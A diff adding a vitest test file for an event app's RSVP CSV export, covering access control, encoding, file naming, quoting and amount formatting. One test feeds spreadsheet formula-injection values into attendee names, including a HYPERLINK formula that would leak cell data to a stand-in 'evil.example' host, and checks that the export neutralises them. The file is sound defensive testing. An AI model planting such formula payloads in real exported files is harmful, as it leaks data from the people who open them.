@@ -1,0 +1,111 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { MESSAGES } from '../../src/shared/messages.js';
+import { RSVP_CSV_COLUMNS, type RsvpRecord } from '../../src/shared/rsvps-model.js';
+import { RSVPS } from '../../src/rsvps/repository.js';
+import { rsvpRecord } from '../mail/helpers.js';
+import { createTestApi, createTestEvent, type TestApi } from '../support/api.js';
+
+let api: TestApi;
+beforeAll(async () => {
+  api = await createTestApi();
+});
+afterAll(() => api.close());
+
+const exportOf = (eventIdOrSlug: string, who: 'admin' | 'staff' = 'admin') =>
+  api.request.get(`/api/events/${eventIdOrSlug}/rsvps.csv`).set(api.bearer(who));
+
+/** The export's text after its byte-order mark (supertest decodes text/* as UTF-8 and keeps the mark). */
+const csvText = (response: { text: string }) => {
+  expect(response.text.charCodeAt(0)).toBe(0xfeff);
+  return response.text.slice(1);
+};
+
+let seq = 0;
+async function storeRsvp(eventId: string, fields: Partial<RsvpRecord>) {
+  const id = `csv-rsvp-${String(++seq).padStart(3, '0')}`;
+  await api.deps.store.set(RSVPS, id, rsvpRecord(eventId, { createdAt: `2026-11-20T0${seq % 10}:00:00.000Z`, ...fields }));
+  return id;
+}
+
+describe('GET /events/{id}/rsvps.csv', () => {
+  it('is admins only: 401 without a token, 403 for staff, 404 for an unknown event', async () => {
+    const event = await createTestEvent(api);
+    expect((await api.request.get(`/api/events/${event.id}/rsvps.csv`)).status).toBe(401);
+    expect((await exportOf(event.id, 'staff')).status).toBe(403);
+    const unknown = await api.request.get('/api/events/no-such-event/rsvps.csv').set(api.bearer('admin'));
+    expect(unknown.status).toBe(404);
+    expect(unknown.body).toEqual({ success: false, code: 'EVENT_NOT_FOUND', message: MESSAGES.eventNotFound });
+  });
+
+  it('is UTF-8 CSV with a byte-order mark, saved as <custom URL>-rsvps.csv, with the table’s columns', async () => {
+    const event = await createTestEvent(api, { customUrl: 'csv-night' });
+    const id = await storeRsvp(event.id, { name: 'Zoë Ångström-Núñez', email: 'zoe@example.org', createdAt: '2026-11-20T00:00:00.000Z' });
+
+    const response = await exportOf('csv-night');
+
+    expect(response.status).toBe(200);
+    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(response.headers['content-disposition']).toBe('attachment; filename="csv-night-rsvps.csv"');
+    // The first bytes on the wire are UTF-8's byte-order mark.
+    expect([...Buffer.from(response.text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(csvText(response)).toBe(
+      `${RSVP_CSV_COLUMNS.join(',')}\r\n` +
+        // 00:00 UTC is 17:00 the day before in Denver (the organisation's zone).
+        `Zoë Ångström-Núñez,zoe@example.org,General,confirmed,free,0.00,2026-11-19 17:00,No,,${id}\r\n`,
+    );
+  });
+
+  it('names the file by id when the event has no custom URL', async () => {
+    const event = await createTestEvent(api);
+    expect((await exportOf(event.id)).headers['content-disposition']).toBe(`attachment; filename="${event.id}-rsvps.csv"`);
+  });
+
+  it('quotes commas, quotes and line breaks, and neutralises cells a spreadsheet would run as formulas', async () => {
+    const event = await createTestEvent(api);
+    await storeRsvp(event.id, { name: 'Doe, "Jane"', email: 'jane@example.org' });
+    await storeRsvp(event.id, { name: 'Line one\nline two', email: 'lines@example.org' });
+    await storeRsvp(event.id, { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', email: 'formula@example.org' });
+    await storeRsvp(event.id, { name: '+1 555 0100', email: 'plus@example.org' });
+    await storeRsvp(event.id, { name: '-2+3', email: 'minus@example.org' });
+    await storeRsvp(event.id, { name: '@SUM(A1:A2)', email: 'at@example.org' });
+    await storeRsvp(event.id, { name: '\t=1+1', email: 'tab@example.org' });
+    await storeRsvp(event.id, { name: '\r=1+1', email: 'cr@example.org' });
+    await storeRsvp(event.id, { name: '\uFF1D1+1', email: 'fullwidth@example.org' });
+    await storeRsvp(event.id, { name: 'Ada = Lovelace - 1', email: 'plain@example.org' });
+
+    const text = csvText(await exportOf(event.id));
+
+    expect(text).toContain('\r\n"Doe, ""Jane""",jane@example.org,');
+    expect(text).toContain('\r\n"Line one\nline two",lines@example.org,');
+    expect(text).toContain(`\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",formula@example.org,`);
+    expect(text).toContain("\r\n'+1 555 0100,plus@example.org,");
+    expect(text).toContain("\r\n'-2+3,minus@example.org,");
+    expect(text).toContain("\r\n'@SUM(A1:A2),at@example.org,");
+    expect(text).toContain("\r\n'\t=1+1,tab@example.org,");
+    expect(text).toContain('\r\n"\'\r=1+1",cr@example.org,');
+    expect(text).toContain("\r\n'\uFF1D1+1,fullwidth@example.org,");
+    expect(text).toContain('\r\nAda = Lovelace - 1,plain@example.org,');
+    // No cell of any row starts with a formula character.
+    expect(text).not.toMatch(/(^|,|\r\n|")[=+@]/);
+  });
+
+  it('writes amounts in dollars with two decimals and check-ins; keeps cancelled RSVPs, leaves out lapsed checkouts', async () => {
+    const event = await createTestEvent(api);
+    const paid = await storeRsvp(event.id, {
+      name: 'Paid',
+      paymentStatus: 'paid',
+      amountPaid: 3550,
+      checkedIn: true,
+      checkedInAt: '2026-12-06T02:45:00.000Z',
+      checkedInBy: 'door@example.org',
+    });
+    const cancelled = await storeRsvp(event.id, { name: 'Cancelled', status: 'cancelled', paymentStatus: 'refunded', amountPaid: 1000, amountRefunded: 1000 });
+    await storeRsvp(event.id, { name: 'Lapsed', status: 'released', paymentStatus: 'pending' });
+
+    const lines = csvText(await exportOf(event.id)).trim().split('\r\n');
+
+    expect(lines).toHaveLength(3);
+    expect(lines[1]).toMatch(new RegExp(`^Paid,alex@example.org,General,confirmed,paid,35.50,[^,]+,Yes,2026-12-05 19:45,${paid}$`));
+    expect(lines[2]).toMatch(new RegExp(`^Cancelled,alex@example.org,General,cancelled,refunded,10.00,[^,]+,No,,${cancelled}$`));
+  });
+});
